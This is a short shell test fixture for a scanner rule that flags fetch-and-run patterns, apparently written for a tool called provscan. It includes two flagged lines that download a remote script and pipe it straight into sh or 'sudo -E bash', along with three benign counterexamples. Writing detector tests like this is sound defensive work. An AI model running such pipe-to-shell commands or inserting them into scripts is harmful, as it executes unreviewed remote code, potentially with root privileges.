#!/bin/sh
# Fixture for sh.fetch-pipe-to-shell (written for provscan; not from any project).
set -eu
# ruleid: sh.fetch-pipe-to-shell
curl -fsSL https://get.example.invalid/install.sh | sh
# ruleid: sh.fetch-pipe-to-shell
wget -qO- http://203.0.113.7/x | sudo -E bash
# ok: sh.fetch-pipe-to-shell
curl -fsSL -o install.sh https://get.example.invalid/install.sh
# ok: sh.fetch-pipe-to-shell
curl -s https://api.example.invalid/v1/status | jq .health
# ok: sh.fetch-pipe-to-shell
echo "run: curl URL then review it" | tee notes.txt
